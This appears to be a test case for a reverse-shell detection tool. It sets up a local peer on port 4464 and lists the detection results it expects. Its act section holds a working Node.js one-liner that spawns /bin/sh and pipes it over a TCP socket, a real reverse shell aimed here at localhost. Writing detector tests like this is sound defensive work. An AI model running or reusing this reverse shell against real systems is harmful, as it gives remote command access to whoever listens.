# R12d: node relays by socket pairs
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $node
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4464
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4464
#: act
. lib/peers.sh
act
node -e 'const sh = require("child_process").spawn("/bin/sh", [])
const c = require("net").connect(4464, "127.0.0.1", () => {
  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c)
})' \
  < /dev/null > /dev/null 2>&1 & fact node $!
who shell /bin/sh
await 'at $shell 0 socket:* && at $shell 1 socket:* && ! same $shell 0 $shell 1'
await 'grep -q :1170.0100007F /proc/net/tcp || grep -q 0100007F:1170.01 /proc/net/tcp'
